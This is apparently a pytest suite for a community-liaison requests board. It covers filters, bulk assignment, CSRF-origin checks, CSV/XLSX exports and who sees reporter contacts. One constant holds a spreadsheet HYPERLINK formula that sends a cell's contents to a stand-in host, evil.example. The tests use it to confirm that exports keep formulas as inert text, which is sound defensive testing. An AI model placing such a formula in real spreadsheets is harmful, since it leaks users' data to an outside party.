"""The requests board: its filters, many requests assigned all or none, its files, and who
sees what (reporter contacts only for the site's officers)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable

from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from geo_service.api.deps import SESSION_COOKIE
from geo_service.liaison import requests as cases
from geo_service.liaison.calendar import TZ
from geo_service.settings import LiaisonSettings
from tests.accounts import PASSWORD, make_user
from tests.liaison.conftest import OTHER, SITE, officer

# Inside 翠苑一区's outline (the default point of ``new_request`` is outside it).
IN_COMMUNITY = {"lon": 120.1565, "lat": 30.2695}
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'
OWN_PAGE = {"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"}
OTHER_PORT = {"Origin": "http://127.0.0.1:9999", "Sec-Fetch-Site": "same-site"}
BOARD = f"/liaison/board?site={SITE}"


def _acknowledge(engine: Engine, public_id: str, settings: LiaisonSettings) -> None:
    with engine.begin() as conn:
        cases.move(conn, officer(), public_id, "acknowledged", settings)


def _state(engine: Engine, public_id: str) -> tuple[str, str | None, int]:
    with engine.connect() as conn:
        row = conn.execute(
            text(
                "SELECT state, assignee, (SELECT count(*) FROM request_events e "
                "WHERE e.request_id = r.id AND e.kind = 'assignment') AS n "
                "FROM requests r WHERE public_id = :id"
            ),
            {"id": public_id},
        ).one()
    return row.state, row.assignee, row.n


def _signed_in(app: FastAPI, engine: Engine, name: str, role: str) -> TestClient:
    make_user(engine, name, role, sites=[SITE])
    browser = TestClient(app, follow_redirects=False)
    done = browser.post("/login", data={"username": name, "password": PASSWORD}, headers=OWN_PAGE)
    assert done.status_code == 303 and SESSION_COOKIE in browser.cookies
    return browser


def test_the_list_and_the_board_filter_by_community_state_category_overdue_and_assignee(
    client_as: Callable[..., TestClient],
    new_request: Callable[..., str],
    officers: Engine,
    settings: LiaisonSettings,
) -> None:
    inside = new_request(category="dust", **IN_COMMUNITY)
    outside = new_request()
    recent = new_request(at=dt.datetime.now(TZ) - dt.timedelta(hours=1))
    _acknowledge(officers, outside, settings)
    wang = client_as("liaison", sites=[SITE])
    assert wang.put(f"/api/requests/{outside}/assignee", json={"assignee": "zhao"}).is_success

    def ids(query: str) -> set[str]:
        found = wang.get(f"/api/requests?site={SITE}&{query}").json()
        return {r["public_id"] for r in found["requests"]}

    assert ids("community=翠苑一区") == {inside}
    assert ids("category=dust") == {inside}
    assert ids("state=assigned&assignee=zhao") == {outside}
    assert ids("overdue=false") == {recent}
    assert ids("overdue=true") == {inside, outside}
    unknown = wang.get("/api/requests?community=无此社区")
    assert unknown.status_code == 422 and "无此社区" in unknown.json()["detail"]

    def rows(query: str) -> set[str]:
        page = wang.get(f"{BOARD}&{query}")
        assert page.status_code == 200
        return {r for r in (inside, outside, recent) if f'id="request-{r}"' in page.text}

    assert rows("community=翠苑一区&state=&category=&assignee=&overdue=") == {inside}
    assert rows("state=assigned") == {outside}
    assert rows("overdue=false") == {recent}
    assert rows("assignee=zhao&category=noise") == {outside}
    bad = wang.get(f"{BOARD}&state=lost")
    assert bad.status_code == 422 and "lost" in bad.text


def test_many_requests_are_assigned_all_or_none(
    client_as: Callable[..., TestClient],
    new_request: Callable[..., str],
    officers: Engine,
    settings: LiaisonSettings,
) -> None:
    first, second, closed = new_request(), new_request(), new_request()
    elsewhere = new_request(site=OTHER)
    for public_id in (first, second, closed):
        _acknowledge(officers, public_id, settings)
    with officers.begin() as conn:
        cases.move(conn, officer(), closed, "cancelled", settings)
    wang = client_as("liaison", sites=[SITE])

    refused = wang.post(
        "/api/requests/assign",
        json={"ids": [first, "R2026999999", second, elsewhere, closed], "assignee": "zhao"},
    )
    assert refused.status_code == 422
    named = {r["id"]: r for r in refused.json()["refused"]}
    assert set(named) == {"R2026999999", elsewhere, closed}
    assert named[elsewhere]["error"] == "NotFound"  # another site's: as if it did not exist
    assert "cancelled" in named[closed]["reason"]
    for public_id in (first, second):
        assert _state(officers, public_id) == ("acknowledged", None, 0)

    stranger = wang.post("/api/requests/assign", json={"ids": [first, second], "assignee": "li"})
    assert stranger.status_code == 422
    assert {r["id"] for r in stranger.json()["refused"]} == {first, second}
    assert "does not work the requests of site" in stranger.json()["detail"]
    assert _state(officers, first) == ("acknowledged", None, 0)

    done = wang.post("/api/requests/assign", json={"ids": [first, second], "assignee": "zhao"})
    assert done.status_code == 200 and done.json()["assigned"] == [first, second]
    for public_id in (first, second):
        assert _state(officers, public_id) == ("assigned", "zhao", 1)
    member = client_as("member", sites=[SITE])
    assert (
        member.post("/api/requests/assign", json={"ids": [first], "assignee": "zhao"}).status_code
        == 403
    )


def test_the_board_form_assigns_from_the_page_only(
    app: FastAPI,
    client: TestClient,
    new_request: Callable[..., str],
    officers: Engine,
    settings: LiaisonSettings,
) -> None:
    one, two = new_request(), new_request()
    browser = _signed_in(app, officers, "sun", "liaison")
    with officers.begin() as conn:
        cases.move(conn, officer(), two, "cancelled", settings)
    page = browser.get(BOARD, headers=OWN_PAGE)
    assert 'id="assign"' in page.text and '<option value="zhao">' in page.text
    assert f'value="{two}" form="assign" aria-label="{two}" disabled>' in page.text
    assert f'value="{one}" form="assign" aria-label="{one}">' in page.text
    two = new_request()

    url = f"/liaison/board/assign?site={SITE}&state=new"
    form = {"ids": [one, two], "assign_to": "zhao"}
    forged = browser.post(url, data=form, headers=OTHER_PORT)
    assert forged.status_code == 403 and _state(officers, one)[1] is None

    refused = browser.post(
        url, data={"ids": [one, "R2026000000"], "assign_to": "zhao"}, headers=OWN_PAGE
    )
    assert refused.status_code == 422 and 'id="refused"' in refused.text
    assert "R2026000000" in refused.text and _state(officers, one)[1] is None

    done = browser.post(url, data=form, headers=OWN_PAGE)
    assert done.status_code == 303 and "assigned=2" in done.headers["location"]
    assert "state=new" in done.headers["location"]
    back = browser.get(done.headers["location"], headers=OWN_PAGE)
    assert 'id="assigned"' in back.text and "已分派 2 件诉求" in back.text
    assert _state(officers, one)[1] == _state(officers, two)[1] == "zhao"


def test_exports_keep_formulas_as_text_and_contacts_for_officers(
    client_as: Callable[..., TestClient],
    new_request: Callable[..., str],
    officers: Engine,
) -> None:
    wang = client_as("liaison", sites=[SITE])
    made = wang.post(
        "/api/requests",
        json={
            "site": SITE,
            "category": "noise",
            "channel": "web",
            "description": LINK,
            "lon": 120.159,
            "lat": 30.267,
            "reporter_name": "示例-赵某",
            "reporter_phone": "199-0000-0009",
        },
    ).json()["public_id"]
    member = client_as("member", sites=[SITE])
    url = f"/api/requests/export?site={SITE}"

    answer = wang.get(url, params={"format": "csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert "filename*=UTF-8''" in answer.headers["content-disposition"]
    lines = [x for x in answer.text.lstrip("\ufeff").splitlines() if not x.startswith("#")]
    rows = list(csv.reader(lines))
    head = rows[0]
    assert head[0] == "诉求编号 / Request id" and "联系电话 / Reporter phone" in head
    cells = [c for row in rows[1:] for c in row]
    assert "'" + LINK in cells and made in cells and "199-0000-0009" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)

    book = load_workbook(io.BytesIO(wang.get(url, params={"format": "xlsx", "lang": "en"}).content))
    sheet = book.worksheets[0]
    values = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]
    assert sheet.cell(1, 1).value == "Request id / 诉求编号"
    assert ("'" + LINK, "s") in values and not [v for v, kind in values if kind == "f"]

    with officers.connect() as conn:
        exported = conn.execute(
            text(
                "SELECT actor, record_count, detail->>'format' FROM audit_log "
                "WHERE action = 'export_personal'"
            )
        ).all()
    assert [(r[1], r[2]) for r in exported] == [(1, "csv"), (1, "xlsx")]

    theirs = member.get(url, params={"format": "csv"})
    assert theirs.status_code == 200 and made in theirs.text
    assert "199-0000-0009" not in theirs.text and "示例-赵某" not in theirs.text
    assert "Reporter phone" not in theirs.text
    book = load_workbook(io.BytesIO(member.get(url, params={"format": "xlsx"}).content))
    cells = {c.value for row in book.worksheets[0].iter_rows() for c in row}
    assert "199-0000-0009" not in cells and "联系电话 / Reporter phone" not in cells
    with officers.connect() as conn:
        count = conn.execute(
            text("SELECT count(*) FROM audit_log WHERE action = 'export_personal'")
        ).scalar_one()
    assert count == 2  # the member's exports carried nothing personal


def test_who_may_open_the_board(
    app: FastAPI,
    anonymous: TestClient,
    client_as: Callable[..., TestClient],
    new_request: Callable[..., str],
) -> None:
    made = new_request()
    assert anonymous.get(BOARD).status_code == 401
    assert anonymous.get(f"/api/requests/export?site={SITE}").status_code == 401
    assert (
        anonymous.post("/api/requests/assign", json={"ids": [made], "assignee": "zhao"}).status_code
        == 401
    )
    browser = anonymous.get(BOARD, headers={"Accept": "text/html"})
    assert browser.status_code == 303 and browser.headers["location"].startswith("/login?next=")

    gis = client_as("gis")
    assert gis.get(BOARD).status_code == 403
    assert gis.get(f"/api/requests/export?site={SITE}").status_code == 403
    assert gis.get("/api/requests/export").status_code == 403
    li = client_as("liaison", sites=[OTHER])
    refused = li.get(BOARD)
    assert refused.status_code == 403 and SITE in refused.text

    member = client_as("member", sites=[SITE]).get(BOARD)
    assert member.status_code == 200 and f'id="request-{made}"' in member.text
    assert "199-0000-0009" not in member.text and "示例-赵某" not in member.text
    assert 'id="assign"' not in member.text and "不显示反映人联系方式" in member.text
    planner = client_as("planner").get(BOARD)
    assert planner.status_code == 200 and "199-0000-0009" not in planner.text
    officer_page = client_as("liaison", sites=[SITE]).get(BOARD)
    assert "199-0000-0009" in officer_page.text


def test_the_board_reads_in_chinese_and_english(
    client_as: Callable[..., TestClient], new_request: Callable[..., str]
) -> None:
    made = new_request(**IN_COMMUNITY)
    wang = client_as("liaison", sites=[SITE])
    zh = wang.get(BOARD)
    assert zh.status_code == 200 and '<html lang="zh-CN">' in zh.text
    assert '<span class="primary">诉求看板</span>' in zh.text and "新登记" in zh.text
    assert '<option value="翠苑一区">' in zh.text
    assert '"id": "' + made + '"' in zh.text or f'"id":"{made}"' in zh.text  # the map's point
    assert "/static/maps/vendor/leaflet@1.9.3/dist/leaflet.js" in zh.text
    assert "<script>" not in zh.text  # no inline script: the default CSP holds
    en = wang.get(f"{BOARD}&lang=en")
    assert (
        '<html lang="en">' in en.text and '<span class="primary">Requests board</span>' in en.text
    )
    assert (
        "New" in en.text
        and f"/api/requests/export?site={SITE}&amp;format=csv&amp;lang=en" in en.text
    )
    assert 'content="width=device-width, initial-scale=1"' in en.text


def test_the_board_pages_fifty_at_a_time(
    client_as: Callable[..., TestClient], new_request: Callable[..., str]
) -> None:
    from geo_service.api.board import PAGE_SIZE

    made = [new_request() for _ in range(PAGE_SIZE + 1)]
    wang = client_as("liaison", sites=[SITE])
    first = wang.get(f"{BOARD}&category=noise")
    assert first.text.count('<tr id="request-') == PAGE_SIZE and "1 / 2" in first.text
    assert f'id="request-{made[0]}"' not in first.text  # the oldest is on page 2
    assert "page=2" in first.text and 'id="next"' in first.text
    second = wang.get(f"{BOARD}&category=noise&page=2")
    assert second.text.count('<tr id="request-') == 1 and f'id="request-{made[0]}"' in second.text
    assert 'id="prev"' in second.text and 'id="next"' not in second.text
